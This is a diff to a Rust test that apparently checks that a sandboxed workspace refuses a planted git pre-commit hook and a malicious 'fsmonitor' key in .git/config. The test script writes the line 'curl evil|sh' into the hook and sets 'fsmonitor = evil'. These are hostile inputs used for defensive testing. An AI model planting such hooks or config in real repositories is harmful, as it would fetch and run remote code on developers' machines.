@@ -55,10 +55,11 @@ per_backend!(
 fn git_hook_without_git(w: &World, b: Backend) {
     let (hook, config) = (hook(w), w.ws.join(".git/config"));
     let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
+    // A transactional workspace lands the new `.git` validated: the hook refused, the config
+    // without its refused key (what remains of it is harmless).
     let planted = || {
-        [&hook, &config]
-            .iter()
-            .any(|p| fs::metadata(p).is_ok_and(|m| m.len() > 0))
+        fs::metadata(&hook).is_ok_and(|m| m.len() > 0)
+            || fs::read_to_string(&config).is_ok_and(|t| t.contains("fsmonitor"))
     };
     let run = confined(w, b, defaults, script);
     assert!(
